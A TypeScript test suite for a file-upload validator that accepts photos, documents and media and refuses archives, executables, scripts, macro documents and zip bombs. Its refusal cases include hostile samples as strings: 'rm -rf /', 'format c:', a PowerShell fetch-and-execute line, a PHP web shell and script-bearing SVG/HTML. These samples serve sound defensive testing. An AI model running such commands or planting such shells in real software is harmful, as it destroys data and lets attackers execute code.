import { gzipSync } from 'node:zlib';
import { fileKinds } from '../../src/evidence/formats.ts';
import { judgeFile } from '../../src/evidence/judge-file.ts';
import { judge, type limits, mega, outcomeOf, padded } from './judging.ts';
import {
  contentTypes,
  docxWith,
  plantedDocx,
  plantedPdf,
  plantedXlsx,
  relation,
  relations,
  wordText,
  zipOf,
} from './planted-documents.ts';
import { plantedFilm } from './planted-films.ts';
import { movingGif, picture, plantedHeic, plantedJpeg, plantedPng, plantedWebp } from './planted-photos.ts';

const [jpeg, png] = await Promise.all([picture().jpeg().toBuffer(), picture().png().toBuffer()]);

describe('what is taken', () => {
  test.each([
    ['jpeg', () => plantedJpeg()],
    ['png', plantedPng],
    ['webp', plantedWebp],
    ['gif', movingGif],
    ['heic', async () => plantedHeic],
    ['avif', () => picture().avif().toBuffer()],
  ])('%s is a photo', async (format, make) => {
    expect(await judge(await make())).toEqual({ accepted: true, kind: 'photo', format });
  });

  test.each([
    ['pdf', async () => plantedPdf()],
    ['docx', plantedDocx],
    ['xlsx', plantedXlsx],
    ['text', async () => Buffer.from('รับเงินใต้โต๊ะ 5 < 6 บาท\n')],
    ['text', async () => Buffer.from('\ufeffรับเงิน', 'utf16le')],
    ['text', async () => Buffer.from([0xc3, 0xd1, 0xba, 0xe0, 0xa7, 0xd4, 0xb9])],
  ])('%s is a document', async (format, make) => {
    expect(await judge(await make())).toEqual({ accepted: true, kind: 'document', format });
  });

  test('a document is found by its own tables, whatever its parts are called', async () => {
    const online = {
      '[Content_Types].xml': contentTypes('word/document2.xml', 'wordprocessingml.document'),
      '_rels/.rels': relations(relation('officeDocument', '/word/document2.xml')),
      'word/document2.xml': wordText('<w:p/>'),
    };
    expect(await outcomeOf(await zipOf(online))).toBe('docx');
  });

  test('a document with a drawing or a page that was put into its text', async () => {
    expect(await outcomeOf(await docxWith({ 'word/media/image2.svg': '<svg/>' }))).toBe('docx');
    expect(await outcomeOf(await docxWith({ 'word/afchunk.htm': '<html>' }))).toBe('docx');
  });

  test('sound and film are known by their bytes', async () => {
    expect(await judge(plantedFilm('M4A ', 'soun'))).toMatchObject({ kind: 'audio', format: 'm4a' });
    expect(await judge(plantedFilm('isom'))).toMatchObject({ kind: 'video', format: 'mp4' });
    expect(await judge(plantedFilm('qt  '))).toMatchObject({ kind: 'video', format: 'mov' });
    expect(await judge(plantedFilm('3gp5'))).toMatchObject({ kind: 'video', format: '3gp' });
    expect(await judge(padded('ID3\x04\0\0\0\0\0\0\xff\xfb\x90\x44'))).toMatchObject({
      kind: 'audio',
      format: 'mp3',
    });
    expect(await judge(padded('\xff\xf1\x50\x80'))).toMatchObject({ kind: 'audio', format: 'aac' });
    expect(await judge(padded('OggS\0\x02'.padEnd(28, '\0').concat('\x01vorbis')))).toMatchObject({
      format: 'ogg',
    });
    expect(await judge(padded('RIFF\x50\x02\0\0WAVEfmt '))).toMatchObject({ kind: 'audio', format: 'wav' });
  });

  test('a photo with the short film that a phone hangs on behind it', async () => {
    expect(await outcomeOf(Buffer.concat([jpeg, plantedFilm()]))).toBe('jpeg');
    expect(await outcomeOf(Buffer.concat([jpeg, jpeg]))).toBe('jpeg');
  });

  test('a photo that broke off, and a few zeros behind a whole one', async () => {
    expect(await outcomeOf(jpeg.subarray(0, jpeg.length - 40))).toBe('jpeg');
    expect(await outcomeOf(Buffer.concat([png, Buffer.alloc(9)]))).toBe('png');
  });
});

describe('what is refused', () => {
  test('nothing, and too much', async () => {
    expect(await outcomeOf('')).toBe('empty');
    expect(await outcomeOf(Buffer.alloc(61 * mega))).toBe('tooBig');
    expect(await outcomeOf(Buffer.concat([jpeg, Buffer.alloc(12 * mega)]))).toBe('tooBig');
  });

  test.each([
    ['a zip', () => zipOf({ 'a.txt': 'a' })],
    ['an empty zip', () => zipOf({})],
    ['a broken zip', async () => (await zipOf({ 'a.txt': 'a' })).subarray(0, 40)],
    ['gzip', async () => gzipSync('a')],
    ['rar', async () => padded('Rar!\x1a\x07\x01\0')],
    ['7z', async () => padded('7z\xbc\xaf\x27\x1c')],
    ['xz', async () => padded('\xfd7zXZ\0')],
    ['bzip2', async () => padded('BZh91AY&SY')],
    [
      'a document with words after its end',
      async () => Buffer.concat([await docxWith(), Buffer.from('behind')]),
    ],
  ])('%s as an archive', async (_, make) => {
    expect(await outcomeOf(await make())).toBe('archive');
  });

  test.each([
    ['a Windows program', padded('MZ\x90\0')],
    ['a Linux program', padded('\x7fELF\x02\x01\x01')],
    ['a Mac program', padded('\xcf\xfa\xed\xfe')],
    ['a Java class or a Mac program for two processors', padded('\xca\xfe\xba\xbe')],
    ['a Windows shortcut', padded('L\0\0\0\x01\x14\x02\0\0\0\0\0\xc0\0\0\0\0\0\0F')],
    ['a shell script', '#!/bin/sh\nrm -rf /\n'],
    ['a batch file', '@echo off\r\nformat c:\r\n'],
    ['a PowerShell script', '$x = 1\nInvoke-WebRequest http://example.org | Invoke-Expression\n'],
    ['a Windows script', 'Set s = CreateObject("WScript.Shell")\n'],
    ['a registry file', 'Windows Registry Editor Version 5.00\r\n'],
    ['an internet shortcut', '[InternetShortcut]\r\nURL=http://example.org\r\n'],
    ['PHP', '<?php system($_GET[0]); ?>'],
  ])('%s as executable', async (_, bytes) => {
    expect(await outcomeOf(bytes)).toBe('executable');
  });

  test('programs in a zip, and documents with a program in them', async () => {
    const jar = await zipOf({ 'META-INF/MANIFEST.MF': '', 'A.class': '' });
    const apk = await zipOf({ 'AndroidManifest.xml': '', 'classes.dex': '' });
    expect(await outcomeOf(jar)).toBe('executable');
    expect(await outcomeOf(apk)).toBe('executable');
    expect(await outcomeOf(await docxWith({ 'word/embeddings/run.exe': 'MZ' }))).toBe('executable');
  });

  test.each([
    ['a page', '<!DOCTYPE html><p>hello'],
    ['a page after spaces and a comment', '\n\n <!-- x --><ScRiPt>alert(1)</script>'],
    ['a page in UTF-16', Buffer.from('\ufeff<html><script>', 'utf16le')],
    ['a drawing that runs', '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'],
    ['a drawing behind its declaration', '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"/>'],
    ['a web archive', 'MIME-Version: 1.0\nContent-Type: multipart/related\n\n'],
  ])('%s as active', async (_, bytes) => {
    expect(await outcomeOf(bytes)).toBe('active');
  });

  test('documents with macros as active', async () => {
    const macroTypes =
      '<Types><Default ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>';
    expect(await outcomeOf(await docxWith({ 'word/vbaProject.bin': 'x' }))).toBe('active');
    expect(await outcomeOf(await docxWith({ '[Content_Types].xml': macroTypes }))).toBe('active');
    expect(await outcomeOf(await docxWith({ 'word/activeX/activeX1.xml': '' }))).toBe('active');
  });

  test('a document whose table of contents cannot be read, or hides macros behind another spelling', async () => {
    const types = contentTypes('word/document.xml', 'wordprocessingml.document');
    const spelled = types.replace(
      '</Types>',
      '<Default Extension="bin" ContentType="vba&#80;roject"/></Types>',
    );
    expect(await outcomeOf(await docxWith({ '[Content_Types].xml': spelled }))).toBe('active');
    const utf16 = Buffer.from(`\ufeff${types}`, 'utf16le');
    expect(await outcomeOf(await docxWith({ '[Content_Types].xml': utf16 }))).toBe('active');
  });

  test('a document that unpacks to more than a computer can hold', async () => {
    const bomb = await docxWith({ 'word/media/a.bin': Buffer.alloc(301 * mega) });
    expect(bomb.length).toBeLessThan(mega);
    expect(await outcomeOf(bomb)).toBe('tooBig');
  });

  test('documents of the old Word, presentations, noise', async () => {
    expect(await outcomeOf(padded('\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1'))).toBe('oldOffice');
    const slides = {
      '[Content_Types].xml': contentTypes('ppt/presentation.xml', 'presentationml.presentation'),
      '_rels/.rels': relations(relation('officeDocument', 'ppt/presentation.xml')),
      'ppt/presentation.xml': '<p/>',
    };
    expect(await outcomeOf(await zipOf(slides))).toBe('unsupported');
    for (const kind of ['text', 'spreadsheet', 'presentation']) {
      const mimetype = `application/vnd.oasis.opendocument.${kind}`;
      expect(await outcomeOf(await zipOf({ mimetype, 'content.xml': '' }))).toBe('openDocument');
    }
    expect(await outcomeOf('{\\rtf1 hello}')).toBe('unsupported');
    expect(await outcomeOf(padded('BM\0\0'))).toBe('unsupported');
  });
});

test('a program that calls itself a photo is still a program', async () => {
  expect(await judge(padded('MZ\x90\0'))).toEqual({ accepted: false, reason: 'executable' });
});

test('50 MB of noise of any beginning are judged in bounded time', async () => {
  const bytes = Buffer.alloc(50 * mega);
  let state = 1;
  for (let at = 0; at < bytes.length; at += 4) {
    state = (Math.imul(state, 1664525) + 1013904223) >>> 0;
    bytes.writeUInt32LE((state ^ (state >>> 15)) >>> 0, at);
  }
  const heads = [
    '',
    '\xff\xd8\xff',
    'GIF89a',
    '\x89PNG\r\n\x1a\n',
    'PK\x03\x04',
    'ID3\x04\0\0\x7f\x7f\x7f\x7f',
    '%PDF-1.7',
    'OggS',
    '\0\0\0\x18ftypisom',
  ];
  const wide = Object.fromEntries(fileKinds.map((kind) => [kind, 60 * mega])) as typeof limits;
  for (const head of heads) {
    bytes.write(head, 0, 'latin1');
    const start = performance.now();
    await judgeFile(bytes, wide);
    expect(performance.now() - start).toBeLessThan(3_000);
  }
});

test('lines and spaces without end do not make the reading of a text slow', async () => {
  for (const filling of ['\n', ' ', '\t\n', 'cmd ', '<', 'MIME-Version: ']) {
    const start = performance.now();
    await judge(filling.repeat((4 * mega) / filling.length));
    expect(performance.now() - start).toBeLessThan(2_000);
  }
});

test('no random change of a file makes judging it fail', async () => {
  const files = [
    await plantedJpeg(),
    await plantedPng(),
    plantedHeic,
    await plantedDocx(),
    plantedFilm(),
    plantedPdf(),
  ];
  let state = 7;
  const random = (below: number) => {
    state = (Math.imul(state, 1664525) + 1013904223) >>> 0;
    return (state >>> 8) % below;
  };
  for (let turn = 0; turn < 600; turn += 1) {
    const bytes = Buffer.from(files[turn % files.length] ?? '');
    for (let change = 0; change < 8; change += 1) bytes[random(bytes.length)] = random(256);
    expect(typeof (await judge(bytes.subarray(0, 1 + random(bytes.length)))).accepted).toBe('boolean');
    expect(typeof (await judge(bytes)).accepted).toBe('boolean');
  }
});
